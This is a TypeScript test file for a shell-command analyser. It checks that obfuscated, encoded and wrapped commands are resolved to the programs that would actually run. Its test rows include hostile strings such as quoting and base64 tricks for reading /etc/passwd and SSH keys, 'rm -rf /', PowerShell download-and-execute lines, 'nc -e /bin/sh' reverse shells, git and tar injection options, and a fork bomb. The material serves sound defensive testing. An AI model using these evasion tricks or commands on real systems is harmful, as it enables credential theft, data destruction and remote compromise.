import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { analyzeShell } from '../../../../collector/pipeline/shell/index.ts';
import type { ShellAnalysis, ShellDialect } from '../../../../collector/contract/shell.ts';

const CONTEXT = { home: '/home/dev', cwd: '/home/dev/app', platform: 'linux' } as const;
const WINDOWS = { home: 'C:\\Users\\dev', cwd: 'C:\\work', platform: 'win32' } as const;

const base64 = (text: string): string => Buffer.from(text).toString('base64');
const utf16 = (text: string): string => Buffer.from(text, 'utf16le').toString('base64');
const hex = (text: string): string => Buffer.from(text).toString('hex');

const lines = (analysis: ShellAnalysis): string[] =>
  analysis.commands.map((command) => [command.program, ...command.args].join(' '));

/** A line, and commands that must be found in it. */
type Row = readonly [command: string, ...found: string[]];

const QUOTING: readonly Row[] = [
  ['c"a"t /etc/passwd', 'cat /etc/passwd'],
  ["c'a't /etc/passwd", 'cat /etc/passwd'],
  ['\\c\\a\\t /etc/passwd', 'cat /etc/passwd'],
  ["$'\\x63at' /etc/passwd", 'cat /etc/passwd'],
  ["$'\\143\\141\\164' /etc/passwd", 'cat /etc/passwd'],
  ["$'\\u0063at' /etc/passwd", 'cat /etc/passwd'],
  ['"cat" "/etc/passwd"', 'cat /etc/passwd'],
  ['$"cat" /etc/passwd', 'cat /etc/passwd'],
  ['cat$IFS/etc/passwd', 'cat /etc/passwd'],
  ['cat${IFS}/etc/passwd', 'cat /etc/passwd'],
  ['cat$IFS$9/etc/passwd', 'cat /etc/passwd'],
  ['ca$@t /etc/passwd', 'cat /etc/passwd'],
  ['ca$*t /etc/passwd', 'cat /etc/passwd'],
  ['ca""t /etc/pass""wd', 'cat /etc/passwd'],
  ["ca''t /etc/pass''wd", 'cat /etc/passwd'],
  ['{cat,/etc/passwd}', 'cat /etc/passwd'],
  ['cat /etc/{passwd,shadow}', 'cat /etc/passwd /etc/shadow'],
  ['cat f{1..3}', 'cat f1 f2 f3'],
  ['cat {~/.ssh/id_rsa,$HOME/.netrc}', 'cat /home/dev/.ssh/id_rsa /home/dev/.netrc'],
  ['ca\\\nt /etc/passwd', 'cat /etc/passwd'],
  ['cat \\\n  /etc/passwd', 'cat /etc/passwd'],
  ['${HOME:0:1}bin${HOME:0:1}cat x', 'cat x'],
  ['cat ${PATH:0:1}etc${PATH:0:1}passwd', 'cat /etc/passwd'],
  ["echo 'a $(rm -rf /) b'", 'echo a $(rm -rf /) b'],
  ['echo "a \\$(rm) b"', 'echo a $(rm) b'],
  ['echo a#b', 'echo a#b'],
  ['ls # rm -rf /', 'ls'],
  ['cat "~/x"', 'cat ~/x'],
  ['cat ~/x', 'cat /home/dev/x'],
  ['cat "$HOME/x y"', 'cat /home/dev/x y'],
  ['cat ${HOME}/x', 'cat /home/dev/x'],
  ['cat $PWD/x', 'cat /home/dev/app/x'],
  ["awk '{print $1}' f", 'awk {print $1} f'],
];

const LISTS: readonly Row[] = [
  ['a; b && c || d & e', 'a', 'b', 'c', 'd', 'e'],
  ['a\nb\r\nc', 'a', 'c'],
  ['true\nrm -rf /', 'rm -rf /'],
  [`${'true; '.repeat(60)}rm -rf /`, 'rm -rf /'],
  ['(a; (b; c))', 'a', 'b', 'c'],
  ['{ a; b; }', 'a', 'b'],
  ['! a', 'a'],
  ['time -p a', 'a'],
  ['if a; then b; elif c; then d; else e; fi', 'a', 'b', 'c', 'd', 'e'],
  ['while a; do b; done', 'a', 'b'],
  ['until a; do b; done', 'a', 'b'],
  ['for i in 1 2; do echo $i; done', 'echo 1 2'],
  ['for ((i=0;i<3;i++)); do b; done', 'b'],
  ['case $x in a) b;; *) c;; esac', 'b', 'c'],
  ['select x in a; do b; done', 'b'],
  ['coproc a', 'a'],
  ['a |& b', 'a', 'b'],
  ['[[ -f $(a) ]] && b', 'a', 'b'],
  ['(( $(a) > 1 )) && b', 'a', 'b'],
  ['f() { cat $1; }; f ~/.env', 'cat /home/dev/.env'],
  ['function f { rm x; }', 'rm x'],
  ['f() { rm "$@"; }; f a b', 'rm a b'],
];

const SUBSTITUTIONS: readonly Row[] = [
  ['echo $(a b)', 'a b'],
  ['echo `a b`', 'a b'],
  ['echo "`a \\`b c\\``"', 'b c'],
  ['echo $(a $(b $(c)))', 'c'],
  ['diff <(a) <(b)', 'a', 'b'],
  ['a > >(b)', 'b'],
  ['X=$(a) b', 'a', 'b'],
  ['X=$(a)', 'a'],
  ['echo ${X:-$(a)}', 'a'],
  ['echo $((1 + $(a)))', 'a'],
  ['cat <<EOF\n$(a b)\nEOF', 'a b'],
  ['cat <<< "$(a b)"', 'a b'],
  ['a > $(b)', 'b'],
  ['$(echo cat) x', 'cat x'],
  ['$(printf "%s" cat) x', 'cat x'],
  ['"$(which cat)" x', 'cat x'],
  ['$(echo c)$(echo at) x', 'cat x'],
  ['`echo cat` x', 'cat x'],
  ['cat $(dirname /a/b)/c', 'cat /a/c'],
  ['cat $(pwd)/c', 'cat /home/dev/app/c'],
  ['cat $(echo L2V0Yy9wYXNzd2Q= | base64 -d)', 'cat /etc/passwd'],
];

const VARIABLES: readonly Row[] = [
  ['F=~/.ssh/id_rsa; cat $F', 'cat /home/dev/.ssh/id_rsa'],
  ['F=id; cat ~/.ssh/${F}_rsa', 'cat /home/dev/.ssh/id_rsa'],
  ['export F=/etc; cat $F/passwd', 'cat /etc/passwd'],
  ['a=c b=at; $a$b x', 'cat x'],
  ['C="rm -rf"; $C /', 'rm -rf /'],
  ['x=(a b); cat "${x[@]}"', 'cat a b'],
  ['x=(a b); cat ${x[1]}', 'cat b'],
  ['x=ab; cat ${x/b/c}', 'cat ac'],
  ['x=a.b; cat ${x%.*}', 'cat a'],
  ['x=CAT; ${x,,} y', 'cat y'],
  ['n=x; x=v; cat ${!n}', 'cat v'],
  ['cat ${U:-/etc/passwd}', 'cat /etc/passwd'],
  ['set -- a b; cat $1', 'cat a'],
  ['x=$(a); cat $x', 'cat $x'],
  ['read x; cat $x', 'cat $x'],
  ['for d in a b; do for f in c d; do cat $d/$f; done; done', 'cat a/c a/d b/c b/d'],
];

const WRAPPERS: readonly Row[] = [
  ['bash -c "cat x"', 'cat x'],
  ["bash -lc 'cat x'", 'cat x'],
  ["/bin/sh -xec 'cat x'", 'cat x'],
  ["zsh -o extendedglob -c 'cat x'", 'cat x'],
  ["bash -c 'cat $1' _ /etc/passwd", 'cat /etc/passwd'],
  ['bash -c \'bash -c "bash -c ls"\'', 'ls'],
  ["eval 'cat x'", 'cat x'],
  ['eval cat x \\; ls', 'cat x', 'ls'],
  ["trap 'rm x' EXIT", 'rm x'],
  ['sudo cat x', 'cat x'],
  ['sudo -u root -E A=1 cat x', 'cat x'],
  ['sudo -- cat x', 'cat x'],
  ['doas -u root cat x', 'cat x'],
  ['pkexec cat x', 'cat x'],
  ["su - root -c 'cat x'", 'cat x'],
  ['env -i A=1 B=2 cat x', 'cat x'],
  ['env -u A cat x', 'cat x'],
  ["env -S 'cat x'", 'cat x'],
  ['nohup setsid cat x', 'cat x'],
  ['timeout -s KILL 5 cat x', 'cat x'],
  ['nice -n 5 ionice -c 3 cat x', 'cat x'],
  ['stdbuf -oL cat x', 'cat x'],
  ['command cat x', 'cat x'],
  ['command -v cat', 'command -v cat'],
  ['builtin cd x', 'cd x'],
  ['exec -a y cat x', 'cat x'],
  ['busybox cat x', 'cat x'],
  ['toybox cat x', 'cat x'],
  ['echo x | xargs cat', 'cat x'],
  ['echo x | xargs -I{} cat {}', 'cat x'],
  ["ls | xargs -n1 -P 4 sh -c 'cat x'", 'cat x'],
  ['parallel cat ::: a b', 'cat a b'],
  ['watch -n 1 cat x', 'cat x'],
  ['find . -exec cat {} \\;', 'cat ./**/*'],
  ["find / -name '*.pem' -execdir cp -t /tmp {} +", 'cp -t /tmp /**/*.pem'],
  ["find . -exec sh -c 'rm x' \\; -exec cat y \\;", 'rm x', 'cat y'],
  ['flock /tmp/l cat x', 'cat x'],
  ['uv run cat x', 'cat x'],
  ['poetry run cat x', 'cat x'],
  ['mise exec -- cat x', 'cat x'],
  ["tmux new-session -d 'cat x'", 'cat x'],
  ["tmux send-keys -t s 'cat x' Enter", 'cat x'],
  ["script -q -c 'cat x' /dev/null", 'cat x'],
  ['ssh h.example.com cat x', 'cat x', 'ssh h.example.com cat x'],
  ["ssh -p 22 -i k u@h.example.com 'cd /x; cat y'", 'cat y'],
  ['docker run --rm -v /:/h -e A=1 alpine cat x', 'cat x'],
  ["docker exec -it c sh -c 'cat x'", 'cat x'],
  ['docker compose exec -T web cat x', 'cat x'],
  ['podman run alpine cat x', 'cat x'],
  ['kubectl -n p exec pod -c c -- cat x', 'cat x'],
  ['wsl -d U -- cat x', 'cat x'],
  ['chroot /mnt cat x', 'cat x'],
  ['nsenter -t 1 -m sh -c "cat x"', 'cat x'],
  ["cmd /c 'type x & del y'", 'type x', 'del y'],
  ["powershell -NoProfile -Command 'Get-Content x'", 'get-content x'],
  [`pwsh -e ${utf16('iwr http://x | iex')}`, 'iwr http://x', 'iex'],
  [`powershell.exe -ExecutionPolicy Bypass -enc ${utf16('rm x')}`, 'rm x'],
];

const PAYLOADS: readonly Row[] = [
  ['bash <<EOF\ncat x\nEOF', 'cat x'],
  ["bash <<'EOF'\ncat $HOME\nEOF", 'cat /home/dev'],
  ['bash <<A\nbash <<B\ncat x\nB\nA', 'cat x'],
  ['bash <<-EOF\n\tcat x\n\tEOF', 'cat x'],
  ["bash <<< 'cat x'", 'cat x'],
  ["echo 'cat x' | sh", 'cat x'],
  ["cat <<'E' | bash -s\ncat x\nE", 'cat x'],
  [`echo ${base64('cat x')} | base64 -d | sh`, 'cat x'],
  [`echo ${base64('cat x')} | base64 --decode | sudo bash`, 'cat x'],
  [`base64 -d <<< ${base64('cat x')} | sh`, 'cat x'],
  [`echo ${base64(`echo ${base64('cat x')} | base64 -d | sh`)} | base64 -d | sh`, 'cat x'],
  [`echo ${hex('cat x')} | xxd -r -p | bash`, 'cat x'],
  ["printf '\\x63\\x61\\x74\\x20\\x78' | sh", 'cat x'],
  ["printf '\\143\\141\\164 x' | sh", 'cat x'],
  ["echo -e '\\x63at x' | sh", 'cat x'],
  ["echo 'x tac' | rev | sh", 'cat x'],
  ["echo 'png k' | tr a-z n-za-m | sh", 'cat x'],
  [`eval "$(echo ${base64('cat x')} | base64 -d)"`, 'cat x'],
  [`bash -c "$(echo ${base64('cat x')} | base64 -d)"`, 'cat x'],
  [`B=${base64('cat x')}; echo $B | base64 -d | sh`, 'cat x'],
  [`echo ${base64('cat x')} | openssl base64 -d | sh`, 'cat x'],
  ['bash <(echo x)', 'echo x'],
  ['python3 -c \'import os; os.system("cat x")\'', 'cat x'],
  ['python3 -c \'import subprocess as sp; sp.run(["cat", "x"])\'', 'cat x'],
  ["python3 - <<'E'\nimport subprocess\nsubprocess.check_output('cat x', shell=True)\nE", 'cat x'],
  [
    `python3 -c 'exec(__import__("base64").b64decode("${base64('import os; os.system("cat x")')}"))'`,
    'cat x',
  ],
  ['node -e \'require("child_process").execSync("cat x")\'', 'cat x'],
  ['node -e \'require("child_process").spawn("cat", ["x"])\'', 'cat x'],
  ['perl -e \'system("cat x")\'', 'cat x'],
  ['perl -e \'exec "cat x"\'', 'cat x'],
  ["ruby -e '`cat x`'", 'cat x'],
  ['php -r \'shell_exec("cat x");\'', 'cat x'],
  ['awk \'BEGIN{system("cat x")}\'', 'cat x'],
  ['osascript -e \'do shell script "cat x"\'', 'cat x'],
  ['lua -e \'os.execute("cat x")\'', 'cat x'],
];

const HIDDEN: readonly Row[] = [
  ["git -c core.pager='cat x' log", 'cat x'],
  ["git -c alias.z='!cat x' z", 'cat x'],
  ["git -c core.sshCommand='cat x' fetch", 'cat x'],
  ["git config core.fsmonitor 'cat x'", 'cat x'],
  ["GIT_SSH_COMMAND='cat x' git fetch", 'cat x'],
  ["git clone 'ext::cat x'", 'cat x'],
  ["git submodule foreach 'cat x'", 'cat x'],
  ["tar cf a --checkpoint=1 --checkpoint-action=exec='cat x' b", 'cat x'],
  ["tar xf a --to-command='cat x'", 'cat x'],
  ["tar -I 'cat x' -xf a", 'cat x'],
  ["rsync -e 'cat x' a b:", 'cat x'],
  ["ssh -o ProxyCommand='cat x' h", 'cat x'],
  ["man -P 'cat x' ls", 'cat x'],
  ["PAGER='cat x' man ls", 'cat x'],
  ["vim -c ':!cat x' f", 'cat x'],
  ["sed '1e cat x' f", 'cat x'],
  ["split --filter='cat x' f", 'cat x'],
  ['socat TCP:h:1 EXEC:/bin/sh', 'sh'],
  ['nc -e /bin/sh h 1', 'sh'],
  ['find . -fprint /tmp/o', 'find . -fprint /tmp/o'],
];

const ALL = { QUOTING, LISTS, SUBSTITUTIONS, VARIABLES, WRAPPERS, PAYLOADS, HIDDEN };

describe('commands found in a POSIX line', () => {
  for (const [group, rows] of Object.entries(ALL)) {
    it.each(rows.map((row) => [group, ...row] as const))('%s: %s', (_group, command, ...found) => {
      expect(lines(analyzeShell(command, CONTEXT))).toEqual(expect.arrayContaining(found));
    });
  }

  it('has at least 150 rows', () => {
    expect(Object.values(ALL).flat().length).toBeGreaterThanOrEqual(150);
  });
});

const onWindows = (dialect: ShellDialect): readonly { dialect: ShellDialect; row: Row }[] =>
  (dialect === 'powershell' ? POWERSHELL : CMD).map((row) => ({ dialect, row }));

const POWERSHELL: readonly Row[] = [
  ['Get-Content x | Select-String y', 'get-content x', 'select-string y'],
  ['iwr http://x -OutFile a.exe; .\\a.exe', 'iwr http://x -OutFile a.exe', 'a.exe'],
  ['& "C:\\x y\\a.exe" b', 'a.exe b'],
  ['& $env:TEMP\\a.exe', 'a.exe'],
  ["(New-Object Net.WebClient).DownloadString('http://x') | iex", 'DownloadString http://x', 'iex'],
  ["iex 'rm x'", 'rm x'],
  ['Remove-Item -Recurse $HOME\\x', 'remove-item -Recurse C:\\Users\\dev\\x'],
  ['$p = "C:\\x"; del $p', 'del C:\\x'],
  ['if (Test-Path x) { del x } else { del y }', 'test-path x', 'del x', 'del y'],
  ['ls | % { del $_ }', 'del $_'],
  ['d`el x', 'del x'],
  [
    "Start-Process powershell -ArgumentList '-c','del x' -Verb RunAs",
    'start-process powershell -ArgumentList -c,del x -Verb RunAs',
  ],
  ['cmd --% /c del x', 'del x'],
  ['@"\nx\n"@ | Out-File y', 'out-file y'],
  ['# del x\nls', 'ls'],
  [`[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('${base64('del x')}')) | iex`, 'del x'],
];
const CMD: readonly Row[] = [
  ['del x & dir && type y || echo z', 'del x', 'dir', 'type y', 'echo z'],
  ['d^e^l x', 'del x'],
  ['del %USERPROFILE%\\x', 'del C:\\Users\\dev\\x'],
  ['set X=whoami& %X%', 'whoami'],
  ['%COMSPEC% /c del x', 'del x'],
  ['if exist x del x', 'del x'],
  ['for %i in (a b) do del x', 'del x'],
  ['call del x', 'del x'],
  ['start "" /b del x', 'del x'],
  ['@del x', 'del x'],
  ['powershell -c "del x"', 'del x'],
  ['echo %PATH:~0,1%', 'echo %PATH:~0,1%'],
];

describe('commands found in a Windows line', () => {
  it.each([...onWindows('powershell'), ...onWindows('cmd')])(
    '$dialect: $row.0',
    ({ dialect, row: [command, ...found] }) => {
      const seen = lines(analyzeShell(command, { ...WINDOWS, dialect })).map((line) => line.toLowerCase());
      expect(seen).toEqual(expect.arrayContaining(found.map((line) => line.toLowerCase())));
    },
  );
});

describe('what is known about a command', () => {
  const one = (command: string, program: string) => {
    const found = analyzeShell(command, CONTEXT).commands.find((candidate) => candidate.program === program);
    if (found === undefined) throw new Error(`no ${program} in ${command}`);
    return found;
  };

  it('tells where a decoded payload came from', () => {
    expect(one(`echo ${base64('cat x')} | base64 -d | sh`, 'cat').via).toEqual(['decoded']);
  });
  it('links a substitution to the command whose words hold it', () => {
    const { commands } = analyzeShell('bash <(curl http://x)', CONTEXT);
    expect(commands[commands[1]?.parent ?? -1]?.program).toBe('bash');
  });
  it('follows cd through && and forgets it after a sub-shell', () => {
    expect(one('cd /tmp && rm x', 'rm').cwd).toBe('/tmp');
    expect(one('(cd /tmp); rm x', 'rm').cwd).toBe('/home/dev/app');
    expect(one('cd $UNKNOWN && rm x', 'rm').cwd).toBeUndefined();
    expect(one('cd a && cd .. && cd b && rm x', 'rm').cwd).toBe('/home/dev/app/b');
    expect(one('eval "cd /tmp"; rm x', 'rm').cwd).toBe('/tmp');
    expect(one('bash -c "cd /tmp"; rm x', 'rm').cwd).toBe('/home/dev/app');
  });
  it('marks elevation and places elsewhere', () => {
    expect(one('sudo env A=1 rm x', 'rm')).toMatchObject({ elevated: true, assignments: { A: '1' } });
    expect(one('ssh h.example.com rm x', 'rm')).toMatchObject({
      elsewhere: true,
      where: 'h.example.com',
      cwd: undefined,
    });
    expect(one('docker exec c rm x', 'rm')).toMatchObject({
      elsewhere: true,
      where: 'c',
      via: ['container'],
    });
  });
  it('keeps pipelines and stages', () => {
    const { commands } = analyzeShell('a | b | c; d', CONTEXT);
    expect(commands.map((command) => [command.stage, command.pipeline === commands[0]?.pipeline])).toEqual([
      [0, true],
      [1, true],
      [2, true],
      [0, false],
    ]);
  });
  it('keeps a loop in its pipeline', () => {
    const { commands } = analyzeShell('curl x | while read l; do sh -c "$l"; done', CONTEXT);
    expect(new Set(commands.map((command) => command.pipeline)).size).toBe(1);
  });
  it('marks unresolved arguments, one flag per argument', () => {
    expect(one('rm a $X "$(y)"', 'rm').dynamic).toEqual([false, true, true]);
    expect(one('$X a', '$X').dynamicProgram).toBe(true);
  });
  it('gives redirects of a group to what is inside', () => {
    expect(one('{ a; } > ~/f', 'a').redirects).toEqual([
      { fd: undefined, operator: '>', target: '/home/dev/f' },
    ]);
    expect(one('a 2>> e', 'a').redirects).toEqual([{ fd: 2, operator: '>>', target: 'e' }]);
    expect(analyzeShell('> ~/.bashrc', CONTEXT).commands[0]?.redirects[0]?.target).toBe('/home/dev/.bashrc');
  });
  it('hands code and input text over', () => {
    expect(one("python3 -c 'print(1)'", 'python3').code).toBe('print(1)');
    expect(one("node <<'E'\nfoo()\nE", 'node').code).toBe('foo()\n');
    expect(one('cat > f <<E\nhello\nE', 'cat').stdinText).toBe('hello\n');
  });
});

describe('what cannot be known is said', () => {
  it.each([
    ['an unclosed quote', 'cat "x'],
    ['an unclosed substitution', 'echo $(cat'],
    ['an unclosed group', '( cat x'],
    ['a NUL', 'ls\0rm -rf /'],
    ['a decoder that cannot be followed', 'echo H4sIAAAAAAAA | base64 -d | gunzip | sh'],
    ['a script nobody has seen', 'base64 -d payload.txt | bash'],
  ])('%s is unparsed', (_name, command) => {
    expect(analyzeShell(command, CONTEXT).unparsed).toBe(true);
  });
  it('both sides of a NUL are seen', () => {
    expect(lines(analyzeShell('ls\0rm -rf /', CONTEXT))).toEqual(['ls', 'rm -rf /']);
  });
  it.each([
    ['too long', 'x '.repeat(100_000)],
    ['too many commands', 'ls; '.repeat(2_000)],
    ['too many wrappers', `${'sudo '.repeat(20)}ls`],
  ])('%s is truncated', (_name, command) => {
    const analysis = analyzeShell(command, CONTEXT);
    expect(analysis.truncated).toBe(true);
    expect(analysis.commands.length).toBeLessThanOrEqual(500);
  });
  it('everyday lines are neither', () => {
    for (const command of [
      'npm test',
      'git status && git diff | head -50',
      'for f in *.ts; do wc -l "$f"; done',
    ]) {
      expect(analyzeShell(command, CONTEXT)).toMatchObject({ unparsed: false, truncated: false });
    }
  });
});

describe('any input', () => {
  it.each([
    'toString',
    'constructor x',
    '__proto__',
    '__proto__=1 x',
    'sudo hasOwnProperty',
    'x | valueOf',
    'f=constructor; $f',
  ])('a name every object has is only a name: %s', (command) => {
    for (const dialect of ['posix', 'powershell', 'cmd'] as const) check(command, dialect);
  });
  const dialects = fc.constantFrom<ShellDialect>('posix', 'powershell', 'cmd');
  const check = (text: string, dialect: ShellDialect): void => {
    const analysis = analyzeShell(text, { ...CONTEXT, dialect });
    expect(analysis.commands.length).toBeLessThanOrEqual(500);
    for (const [index, command] of analysis.commands.entries()) {
      expect(command.dynamic.length).toBe(command.args.length);
      expect(command.depth).toBeLessThanOrEqual(16);
      if (command.parent !== undefined) expect(command.parent).toBeLessThan(index);
    }
    expect(analyzeShell(text, { ...CONTEXT, dialect })).toEqual(analysis);
  };

  it('is read without throwing, the same each time', () => {
    fc.assert(fc.property(fc.string({ unit: 'binary', maxLength: 200 }), dialects, check), { numRuns: 400 });
  });
  it('made of shell pieces is read without throwing', () => {
    const piece = fc.constantFrom(
      ...'$( ) ` " \' { } | || && ; & > >> < << <<< \n \\ $ ${ ${x:- }} $(( )) <( >( [[ ]] if then fi for in do done while case esac ;; () f(){ bash -c sudo eval xargs find -exec cat x ~/.ssh a=b $a * ? [ ] ! # \t \0 é %X% ^ @" "@ --% base64 -d EOF python -c powershell -enc cmd /c ssh h docker run i'.split(
        ' ',
      ),
      ' ',
    );
    fc.assert(
      fc.property(
        fc.array(piece, { maxLength: 60 }),
        fc.constantFrom('', ' '),
        dialects,
        (pieces, glue, dialect) => {
          check(pieces.join(glue), dialect);
        },
      ),
      { numRuns: 1_500 },
    );
  });
  it.each([
    ['parentheses', '('],
    ['substitutions', '$('],
    ['quoted substitutions', '"$('],
    ['parameter expansions', '${x:-'],
    ['arithmetic', '$(('],
    ['backticks', '`'],
    ['braces', '{a,'],
    ['wrappers', 'bash -c '],
    ['here-documents', 'cat <<A\n'],
    ['commands', 'x;'],
    ['functions', 'f(){ '],
  ])('a megabyte of %s ends soon', (_name, unit) => {
    const text = unit.repeat(Math.ceil(1_000_000 / unit.length));
    const before = performance.now();
    for (const dialect of ['posix', 'powershell', 'cmd'] as const) check(text, dialect);
    expect(performance.now() - before).toBeLessThan(5_000);
  });
  it('that doubles itself ends', () => {
    check(`a=xxxxxxxx; ${'a=$a$a; '.repeat(100)} echo $a`, 'posix');
    check(':(){ :|:& };:', 'posix');
    check('f(){ f; f; }; f', 'posix');
    check('{1..999999}{1..999999}', 'posix');
  });
});
